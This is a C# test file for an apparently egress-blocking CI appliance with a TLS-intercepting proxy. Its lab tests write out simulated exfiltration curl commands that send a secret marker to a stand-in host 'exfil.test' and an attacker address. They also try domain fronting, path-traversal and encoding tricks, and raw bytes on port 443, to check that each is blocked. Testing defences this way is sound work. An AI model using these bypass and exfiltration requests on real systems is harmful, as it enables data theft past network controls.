using HardenRunner.EndToEnd.Tests.Support;
using HardenRunner.Lab;
using TestLab = HardenRunner.Lab.Lab;

namespace HardenRunner.EndToEnd.Tests;

/// <summary>
/// Enforcement core II in the lab: the transparent TLS-intercepting proxy, the ephemeral CA in the runner's trust
/// stores, and layer-7 rules, with real clients (curl, git, python3, node, .NET). The proof is on the internet side.
/// </summary>
public sealed class ProxyEnforcementTests
{
    private static readonly TimeSpan ClientTimeout = TimeSpan.FromSeconds(20);
    private static readonly TimeSpan Quiet = TimeSpan.FromSeconds(2);

    private const string Policy = """
        egress-policy: block
        allowed-endpoints:
          - allowed.test:443
          - allowed.test:80
          - "*.allowed.test:443"
          - api.github.com:443
          - github.com:443
        rules:
          - host: api.github.com
            allow:
              - { method: GET, path: "/repos/acme/**" }
              - { method: POST, path: "/repos/acme/web/issues/*/comments" }
            deny:
              - { method: "*", path: "/gists/**" }
        """;

    private static string Unique(string prefix) => EnforcementCoreTests.Unique(prefix);

    private static async Task<(ApplianceProcess Appliance, Dictionary<string, string> Env)> StartAsync(TestLab lab, string policy)
    {
        var appliance = await ApplianceProcess.StartAsync(lab, policy, "--upstream-ca", lab.CaCertificatePath);
        var env = new Dictionary<string, string>();
        var print = await lab.RunInRunnerAsync(HardenRunnerBinary.FileName, HardenRunnerBinary.Args(["env", "--state-dir", appliance.StateDir]), ClientTimeout);
        Assert.True(print.Succeeded, print.ToString());
        foreach (var line in print.StandardOutput.Split('\n', StringSplitOptions.RemoveEmptyEntries))
        {
            var eq = line.IndexOf('=', StringComparison.Ordinal);
            env[line[..eq]] = line[(eq + 1)..];
        }

        Assert.Contains("NODE_EXTRA_CA_CERTS", env.Keys);
        return (appliance, env);
    }

    private static Task<LabProcessResult> Curl(TestLab lab, params string[] args) =>
        lab.RunInRunnerAsync("curl", ["-sS", "--max-time", "10", .. args], ClientTimeout);

    [SkippableFact]
    public async Task AllowedRequests_FromRealClients_SucceedWithOnlyTheSystemStoreAndExportedVariables()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await LabGit.CreateRepositoryAsync(lab, "acme", "web");
        var (appliance, env) = await StartAsync(lab, Policy);
        await using var _ = appliance;

        // curl: system store only (no -k, no --cacert), HTTP/1.1 and HTTP/2, IPv4 and IPv6
        var m1 = Unique("curl-h1-");
        var r1 = await Curl(lab, "--http1.1", "-4", $"https://allowed.test/{m1}");
        Assert.True(r1.Succeeded, r1.ToString());
        Assert.Equal("lab:allowed.test\n", r1.StandardOutput);
        var h1 = await lab.HttpLog.WaitForAsync(r => r.Path == "/" + m1, Quiet);
        Assert.Equal(("allowed.test", "allowed.test", "HTTP/1.1"), (h1.Server, h1.Sni, h1.Protocol));
        Assert.DoesNotContain(h1.Headers.Keys, k => k.StartsWith("x-forwarded", StringComparison.Ordinal));

        var m2 = Unique("curl-h2-");
        var r2 = await Curl(lab, "--http2", "-6", $"https://allowed.test/{m2}");
        Assert.True(r2.Succeeded, r2.ToString());
        var h2 = await lab.HttpLog.WaitForAsync(r => r.Path == "/" + m2, Quiet);
        Assert.Equal("HTTP/2", h2.Protocol);

        // a wildcard name, minted on first use
        var m3 = Unique("sub-");
        var r3 = await Curl(lab, $"https://{m3}.allowed.test/x");
        Assert.True(r3.Succeeded, r3.ToString());

        // plain HTTP on port 80 through the same pipeline
        var m4 = Unique("plain-");
        var r4 = await Curl(lab, $"http://allowed.test/{m4}");
        Assert.True(r4.Succeeded, r4.ToString());
        await lab.HttpLog.WaitForAsync(r => r.Path == "/" + m4 && r.Scheme == "http", Quiet);

        // python3 urllib
        var m5 = Unique("py-");
        var py = await lab.RunInRunnerAsync("python3", ["-c", $"import urllib.request;print(urllib.request.urlopen('https://allowed.test/{m5}', timeout=10).read().decode())"], ClientTimeout, env);
        Assert.True(py.Succeeded, py.ToString());
        Assert.Contains("lab:allowed.test", py.StandardOutput, StringComparison.Ordinal);

        // node https (node has its own roots: NODE_EXTRA_CA_CERTS from 'harden-runner env')
        var m6 = Unique("node-");
        var node = await lab.RunInRunnerAsync("node", ["-e", $"require('https').get('https://allowed.test/{m6}', r => {{ let b=''; r.on('data', d => b += d); r.on('end', () => console.log(r.statusCode, b.trim())); }}).on('error', e => {{ console.error(e.message); process.exit(1); }})"], ClientTimeout, env);
        Assert.True(node.Succeeded, node.ToString());
        Assert.Contains("200 lab:allowed.test", node.StandardOutput, StringComparison.Ordinal);

        // git over HTTPS against the lab remote
        var git = await lab.RunInRunnerAsync("git", ["ls-remote", "https://github.com/git/acme/web.git"], ClientTimeout, env);
        Assert.True(git.Succeeded, git.ToString());
        Assert.Contains("refs/heads/main", git.StandardOutput, StringComparison.Ordinal);
        var clone = await lab.RunInRunnerAsync("git", ["clone", "-q", "https://github.com/git/acme/web.git", Path.Combine(lab.WorkDirectory, "clone-" + Unique(""))], ClientTimeout, env);
        Assert.True(clone.Succeeded, clone.ToString());

        // .NET HttpClient, HTTP/2
        var m7 = Unique("dotnet-");
        var dn = await lab.RunInRunnerAsync("dotnet", [LabClientBinary.Path, $"https://allowed.test/{m7}", "GET", "2"], ClientTimeout, env);
        Assert.True(dn.Succeeded, dn.ToString());
        Assert.StartsWith("200 2.0 lab:allowed.test", dn.StandardOutput, StringComparison.Ordinal);

        // the GitHub API rules allow reads of acme
        var api = await Curl(lab, "-o", "/dev/null", "-w", "%{http_code}", "https://api.github.com/repos/acme/web");
        Assert.Equal("200", api.StandardOutput);

        foreach (var m in new[] { m1, m2, m4, m5, m6, m7 })
        {
            await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "network" && e.GetProperty("path").GetString() == "/" + m && e.GetProperty("decision").GetString() == "allow", Quiet);
        }
    }

    [SkippableFact]
    public async Task Block_EveryBypass_IsRefused_AndTheLabServersNeverSeeThePayload()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        var (appliance, _) = await StartAsync(lab, Policy);
        await using var __ = appliance;
        var marker = Unique("SECRET");

        // HTTPS and HTTP exfiltration to a denied host: DNS already refuses the name, so the client is handed the
        // address (as a hard-coded IP in malware would be) to prove the proxy refuses it too
        var viaDns = await Curl(lab, $"https://exfil.test/{marker}/dns");
        Assert.Equal(6, viaDns.ExitCode); // could not resolve host
        var https = await Curl(lab, "--resolve", "exfil.test:443:198.51.100.20", $"https://exfil.test/{marker}/https");
        Assert.False(https.Succeeded, https.ToString());
        Assert.Contains("alert", https.StandardError, StringComparison.OrdinalIgnoreCase);
        var http = await Curl(lab, "--resolve", "exfil.test:80:198.51.100.20", "-o", "/dev/null", "-w", "%{http_code}", $"http://exfil.test/{marker}/http");
        Assert.Equal("403", http.StandardOutput);

        // direct to an IP (no SNI name to allow), with -k so only the appliance can stop it
        Assert.False((await Curl(lab, "-k", $"https://198.51.100.20/{marker}/direct-ip")).Succeeded);

        // an allowed SNI aimed at the attacker's address: the proxy forwards to the address it resolved itself for
        // allowed.test, so the request lands at the real allowed.test and never at the attacker
        var toAttacker = Unique("ATTACK");
        var attack = await Curl(lab, "--resolve", "allowed.test:443:198.51.100.66", $"https://allowed.test/{toAttacker}");
        Assert.Equal("lab:allowed.test\n", attack.StandardOutput);
        await lab.HttpLog.WaitForAsync(r => r.Path == "/" + toAttacker && r.Server == "allowed.test", Quiet);
        Assert.DoesNotContain(lab.HttpLog.Read(), r => r.Server == "attacker");

        // domain fronting: SNI of an allowed host, Host of a denied one
        var fronting = await Curl(lab, "-o", "/dev/null", "-w", "%{http_code}", "-H", "Host: exfil.test", $"https://allowed.test/{marker}/fronting");
        Assert.Equal("403", fronting.StandardOutput);

        // layer 7: a write where only reads are allowed, a denied path, traversal and encoding tricks
        foreach (var (method, url) in new[]
        {
            ("POST", $"https://api.github.com/repos/acme/web/pulls?x={marker}"),
            ("GET", $"https://api.github.com/gists/{marker}"),
            ("POST", $"https://api.github.com/repos/acme/../../gists?x={marker}"),
            ("POST", $"https://api.github.com/repos/acme/%2e%2e/%2e%2e/gists?x={marker}"),
            ("POST", $"https://api.github.com//gists?x={marker}"),
            ("GET", $"https://api.github.com/repos/acme%2Fweb/{marker}"),
            ("GET", $"https://api.github.com/GISTS/{marker}"),
            ("GET", $"https://api.github.com/repos/other/{marker}"),
        })
        {
            var r = await Curl(lab, "--path-as-is", "-X", method, "-d", marker, "-o", "/dev/null", "-w", "%{http_code}", url);
            Assert.True(r.StandardOutput == "403", $"{method} {url}: {r}");
        }

        // no SNI, and non-TLS bytes on 443
        var noSni = await lab.RunInRunnerAsync("openssl", ["s_client", "-connect", "198.51.100.10:443", "-noservername", "-brief"], ClientTimeout, standardInput: $"GET /{marker}/nosni HTTP/1.1\r\nHost: allowed.test\r\n\r\n");
        Assert.DoesNotContain("lab:", noSni.StandardOutput, StringComparison.Ordinal);
        await EnforcementCoreTests.SendAsync(lab, "tcp", "198.51.100.10", 443, $"GET /{marker}/plain-on-443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n");

        Assert.True(await lab.HttpLog.NoneWithinAsync(r => r.RawTarget.Contains(marker, StringComparison.Ordinal) || r.BodyPreview.Contains(marker, StringComparison.Ordinal), Quiet), "a lab server received the payload");
        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(marker, StringComparison.Ordinal), TimeSpan.FromMilliseconds(200)));

        // and each refusal is recorded as deny / blocked
        await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "network" && e.GetProperty("host").GetString() == "exfil.test" && e.GetProperty("action").GetString() == "blocked", Quiet);
        await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "network" && (e.GetProperty("path").GetString() ?? "").StartsWith("/gists/", StringComparison.Ordinal) && e.GetProperty("action").GetString() == "blocked", Quiet);
    }

    [SkippableFact]
    public async Task Audit_SameRequests_PassAndAreRecordedAsDenyPassed()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        var (appliance, _) = await StartAsync(lab, Policy.Replace("egress-policy: block", "egress-policy: audit", StringComparison.Ordinal));
        await using var __ = appliance;
        var marker = Unique("audit");

        var exfil = await Curl(lab, $"https://exfil.test/{marker}/https");
        Assert.True(exfil.Succeeded, exfil.ToString());
        Assert.Equal("lab:exfil.test\n", exfil.StandardOutput);
        var gist = await Curl(lab, "-X", "POST", "-d", marker, $"https://api.github.com/gists?m={marker}");
        Assert.True(gist.Succeeded, gist.ToString());
        await lab.HttpLog.WaitForAsync(r => r.Path == $"/{marker}/https", Quiet);
        await lab.HttpLog.WaitForAsync(r => r.Path == "/gists" && r.BodyPreview.Contains(marker, StringComparison.Ordinal), Quiet);

        await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "network" && e.GetProperty("kind").GetString() == "https" && e.GetProperty("host").GetString() == "exfil.test" && e.GetProperty("decision").GetString() == "deny" && e.GetProperty("action").GetString() == "passed", Quiet);
        await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "network" && (e.GetProperty("path").GetString() ?? "").StartsWith("/gists", StringComparison.Ordinal) && e.GetProperty("decision").GetString() == "deny" && e.GetProperty("action").GetString() == "passed", Quiet);
        Assert.DoesNotContain(appliance.Events(), e => e.GetProperty("type").GetString() == "network" && e.GetProperty("action").GetString() == "blocked");
    }

    [SkippableFact]
    public async Task Stop_LeavesTrustStoresByteIdentical_AndGithubEnvWasWritten()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        const string fingerprint = "find /etc/ssl /usr/local/share/ca-certificates -xdev \\( -type f -o -type l \\) -print0 | sort -z | xargs -0 sha256sum 2>/dev/null; find /etc/ssl /usr/local/share/ca-certificates -xdev -type l -printf '%p -> %l\\n' | sort";
        var before = await lab.RunInRunnerAsync("sh", ["-c", fingerprint], ClientTimeout);
        var githubEnv = Path.Combine(lab.WorkDirectory, "github_env");
        await File.WriteAllTextAsync(githubEnv, "EARLIER=1\n");

        var dir = Path.Combine(lab.WorkDirectory, "trust-test");
        Directory.CreateDirectory(dir);
        await File.WriteAllTextAsync(Path.Combine(dir, "policy.yml"), Policy);
        var ready = Path.Combine(dir, "ready");
        var process = lab.StartInRunner(HardenRunnerBinary.FileName, HardenRunnerBinary.Args(["run", "--policy", Path.Combine(dir, "policy.yml"), "--state-dir", Path.Combine(dir, "state"), "--ready-file", ready, "--upstream-ca", lab.CaCertificatePath]), new Dictionary<string, string> { ["GITHUB_ENV"] = githubEnv });
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(45);
        while (!File.Exists(ready))
        {
            Assert.True(!process.HasExited && DateTime.UtcNow < deadline, "appliance not ready: " + process.StandardError);
            await Task.Delay(50);
        }

        var during = await lab.RunInRunnerAsync("sh", ["-c", fingerprint], ClientTimeout);
        Assert.NotEqual(before.StandardOutput, during.StandardOutput);
        var ok = await Curl(lab, "https://allowed.test/");
        Assert.True(ok.Succeeded, ok.ToString());

        process.Terminate();
        var exited = await process.WaitAsync(TimeSpan.FromSeconds(30));
        Assert.True(exited.ExitCode == 0, exited.ToString());
        var after = await lab.RunInRunnerAsync("sh", ["-c", fingerprint], ClientTimeout);
        Assert.Equal(before.StandardOutput, after.StandardOutput);

        var lines = await File.ReadAllLinesAsync(githubEnv);
        Assert.Equal("EARLIER=1", lines[0]);
        foreach (var name in new[] { "NODE_EXTRA_CA_CERTS", "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO", "PIP_CERT", "AWS_CA_BUNDLE" })
        {
            Assert.Contains(lines, l => l.StartsWith(name + "=/", StringComparison.Ordinal));
        }

        // after stop, interception is gone: the lab server's own certificate is what a client sees again
        var direct = await Curl(lab, "--cacert", lab.CaCertificatePath, "https://allowed.test/");
        Assert.True(direct.Succeeded, direct.ToString());
    }
}

/// <summary>The built HardenRunner.LabClient.dll (a .NET HttpClient), in the solution's build output.</summary>
internal static class LabClientBinary
{
    public static string Path { get; } = System.IO.Path.Combine(
        HardenRunnerBinary.RepositoryRoot, "tests", "HardenRunner.LabClient", "bin",
        new DirectoryInfo(AppContext.BaseDirectory).Parent!.Name, "net10.0", "HardenRunner.LabClient.dll");
}
